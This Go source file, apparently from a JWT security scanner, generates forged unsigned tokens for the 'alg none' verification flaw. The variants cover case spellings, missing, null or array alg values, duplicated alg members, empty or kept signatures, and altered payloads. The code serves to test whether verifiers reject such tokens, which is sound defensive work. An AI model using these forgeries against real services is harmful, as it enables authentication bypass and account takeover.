package attack

import "strings"

func noneAttacks() []Attack {
	return []Attack{{
		Name:  "alg-none",
		Title: "An unsigned token",
		Check: "jwt.alg-none",
		Why:   "the token chooses that it needs no signature (CWE-347, RFC 8725 §3.2, CVE-2015-9235)",
		forge: unsigned,
	}}
}

// unsigned tries each spelling with an empty and a kept signature, and with the
// payload altered and not: some verifiers refuse only one of them.
func unsigned(g *genuine) []Forged {
	control := g.headerText + "." + g.payloadText + "."
	altered := segment(g.altered())
	var all []Forged
	add := func(name, title, header string) {
		for _, payload := range []struct{ name, title, text string }{
			{"", "", g.payloadText}, {"-altered", ", payload changed", altered},
		} {
			for _, signature := range []struct{ name, title, text string }{
				{"-empty", ", signature empty", ""}, {"-kept", ", signature kept", g.signatureText},
			} {
				all = append(all, Forged{
					Name:    name + signature.name + payload.name,
					Title:   title + signature.title + payload.title,
					Token:   header + "." + payload.text + "." + signature.text,
					Control: control,
				})
			}
		}
	}
	for _, spelling := range []string{"none", "None", "NONE", "nOnE"} {
		add(spelling, "alg "+spelling, segment(with(g.header, object{"alg": spelling})))
	}
	bare := segment(object{"alg": "none"})
	typed := segment(object{"alg": "none", "typ": "JWT"})
	for _, f := range []struct{ name, title, header string }{
		{"bare", "alg none and nothing else", bare},
		{"typ", "alg none and typ JWT", typed},
		{"absent", "No alg", segment(with(g.header, object{"alg": nil}))},
		{"blank", "alg empty", segment(with(g.header, object{"alg": ""}))},
		{"null", "alg null", segment(with(g.header, object{"alg": null}))},
		{"array", "alg an array", segment(with(g.header, object{"alg": []string{"none"}}))},
		{"twice", "alg given twice, none last", encode([]byte(twice(string(compactJSON(g.header)), `"alg":"none"`)))},
		{"twice-first", "alg given twice, none first", encode([]byte(`{"alg":"none",` + strings.TrimPrefix(string(compactJSON(g.header)), "{")))},
	} {
		all = append(all, Forged{
			Name: f.name, Title: f.title + ", signature empty", Token: f.header + "." + altered + ".", Control: control,
		})
	}
	return all
}

// twice adds a member at the end of an object's text.
func twice(text, member string) string {
	return strings.TrimSuffix(text, "}") + "," + member + "}"
}
